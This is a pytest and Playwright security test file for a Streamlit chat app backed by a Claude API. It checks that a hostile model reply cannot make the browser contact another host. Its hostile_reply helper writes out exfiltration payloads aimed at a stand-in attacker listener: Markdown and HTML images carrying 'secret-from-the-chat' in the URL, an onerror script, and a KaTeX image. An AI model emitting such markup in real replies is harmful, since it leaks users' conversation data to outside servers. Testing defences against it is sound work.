"""What a model writes never makes the page fetch anything by itself, in headless Chromium against
`streamlit run` and the loopback Claude API. A hostile reply points at a second loopback listener that
counts every request it gets: after the reply streamed in, the Tokens page and the search results
showed its conversation, the listener got none, the browser asked no host but the app, and the
Content-Security-Policy (the second wall) was on every page response and never had to block anything."""

from __future__ import annotations

import re
import threading
import tomllib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.conftest import ROOT, TEST_KEY
from tests.loopback_api import reply
from tests.test_browser import ARTIFACTS, CHROMIUM, FLAGS, App, idle, open_app, pytestmark, send, served  # noqa: F401

MESSAGES = '[data-testid="stChatMessage"]'


class CountingListener:
    """A loopback HTTP server standing for an attacker's: it answers everything and counts it."""

    def __init__(self):
        self.paths: list[str] = []
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                listener.paths.append(self.path)
                self.send_response(200)
                self.send_header("content-type", "image/gif")
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def verbose(api, isolated):
    """The app as `served`, logging at INFO too: a clean start and normal use log no warning or notice."""
    import os

    app = App(dict(os.environ, ANTHROPIC_API_KEY=TEST_KEY, ANTHROPIC_BASE_URL=api.url), ["--logger.level", "info"]).start()
    yield app
    app.stop()


@pytest.fixture
def listener():
    server = CountingListener()
    yield server
    server.stop()


def hostile_reply(base: str) -> str:
    return (f"Here is the chart ![leak]({base}/md-image?d=secret-from-the-chat) and a reference ![ref][r], "
            f"and [a plain link]({base}/link).\n\n"
            f'<img src="{base}/html-img" onerror="window.__pwned = 1">\n\n'
            f"$\\includegraphics{{{base}/katex.png}}$\n\n"
            f"[r]: {base}/ref-image\n")


def test_a_hostile_reply_loads_nothing_and_the_page_asks_no_other_host(verbose, api, listener):
    served = verbose
    from playwright.sync_api import sync_playwright

    title = f"**bold** [title link]({listener.base}/title-link) ![t]({listener.base}/title-image)"
    api.queue(reply(hostile_reply(listener.base)))
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 800})
        requests, console, policies = [], [], []
        page.on("request", lambda r: requests.append(r.url))
        page.on("console", lambda m: console.append(m.text))
        page.on("response", lambda r: r.request.resource_type == "document"
                and policies.append(r.headers.get("content-security-policy")))

        open_app(page, served.url)
        send(page, title)  # the first message names the conversation
        page.wait_for_function("() => document.body.innerText.includes('a plain link')", timeout=20000)
        idle(page)
        bubble = page.locator(MESSAGES).last
        link = bubble.locator(f'a[href^="{listener.base}/md-image"]')
        link.wait_for(timeout=10000)
        assert link.count() == 1 and "127.0.0.1" in link.inner_text()  # a link naming its host
        assert bubble.locator(f'a[href="{listener.base}/ref-image"]').count() == 1
        assert bubble.locator(f'a[href="{listener.base}/link"]').inner_text() == "a plain link"
        assert bubble.locator("img").count() == 0
        assert "onerror" in bubble.inner_text() and page.evaluate("() => window.__pwned") is None
        page.screenshot(path=str(ARTIFACTS / "security-reply.png"))

        page.locator('[data-testid="stSidebarNav"] a', has_text="Tokens").click()
        page.wait_for_selector('[data-testid="stVegaLiteChart"]', timeout=30000)
        idle(page)
        caption = page.locator('[data-testid="stCaptionContainer"]').first
        shown_title = "**bold** [title link]("  # as written (titles are cut at a length)
        assert caption.inner_text().startswith(shown_title)  # the title as plain text
        assert caption.locator("a, img, strong strong").count() == 0
        page.screenshot(path=str(ARTIFACTS / "security-tokens.png"), full_page=True)

        page.locator('[data-testid="stSidebarNav"] a', has_text="Chat").click()
        page.wait_for_selector('[data-testid="stChatInput"] textarea', timeout=30000)
        idle(page)
        page.get_by_role("button", name="Search conversations").click()
        box = page.locator(".st-key-chat_search input")
        box.fill("chart")
        box.press("Enter")
        hit = page.locator('[class*="st-key-chat_hit_"] button')
        hit.wait_for(timeout=15000)
        idle(page)
        assert hit.inner_text().startswith(shown_title)  # the title as plain text, not markup
        assert hit.locator("a, img, strong").count() == 0
        # The snippet is plain text too: the reply's address in it is no link (GitHub-flavoured Markdown
        # would make one of any bare `http://…` or `www.…`), only the match is bold.
        results = page.locator('[data-testid="stPopoverBody"]')
        assert "/md-image?d=secret" in results.inner_text() and results.locator("a, img").count() == 0
        page.screenshot(path=str(ARTIFACTS / "security-search.png"))
        page.wait_for_timeout(1000)  # anything late (a lazy image) would have asked by now

        assert listener.paths == []
        assert policies and all(policies), "every page response carries the Content-Security-Policy"
        assert "img-src 'self' data: blob:" in policies[0] and "connect-src 'self'" in policies[0]
        others = [u for u in requests if not u.startswith((served.url, "data:", "blob:", "about:"))]
        assert others == [], others
        assert not [m for m in console if "Content Security Policy" in m], console  # nothing of the app's blocked
        assert page.locator('[data-testid="stAppDeployButton"]').count() == 0  # the toolbar is minimal
        icon = page.evaluate("() => document.querySelector('link[rel~=\"icon\"]').href")
        assert icon.startswith(("data:image/svg+xml", served.url)), icon  # the shipped icon
        browser.close()
    log = served.log.read_text()
    assert not re.search(r"WARNING|ERROR|missing ScriptRunContext|does not exist anymore|Traceback", log), log


def test_the_config_hides_the_developer_menu():
    import streamlit.config as config

    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["toolbarMode"] == "minimal"
    assert "client.toolbarMode" in config._config_options_template  # still Streamlit's name for it


def test_an_image_still_being_written_is_never_drawn_while_it_streams(served, api, listener):
    """While a reply streams, Streamlit completes unclosed Markdown, so a half-written image would be
    drawn with a placeholder address (`streamdown:incomplete-image`, refused by the policy): an image
    is shown (as its link) only once it is written whole, and the browser asks for nothing meanwhile."""
    from playwright.sync_api import sync_playwright

    text = f"Look ![leak]({listener.base}/stream-image?d=secret) and [a link]({listener.base}/link) done."
    api.queue(reply(text, chunks=40, delay=0.08))  # the image's address arrives over many deltas
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page(viewport={"width": 1280, "height": 800})
        requests, console = [], []
        page.on("request", lambda r: requests.append(r.url))
        page.on("console", lambda m: console.append(m.text))
        open_app(page, served.url)
        send(page, "go")
        page.wait_for_function("() => document.body.innerText.includes('done.')", timeout=30000)
        idle(page)
        bubble = page.locator(MESSAGES).last
        assert bubble.locator(f'a[href^="{listener.base}/stream-image"]').count() == 1 and bubble.locator("img").count() == 0
        assert listener.paths == []
        others = [u for u in requests if not u.startswith((served.url, "data:", "blob:", "about:"))]
        assert others == [], others
        assert not [m for m in console if "Content Security Policy" in m], console
        browser.close()
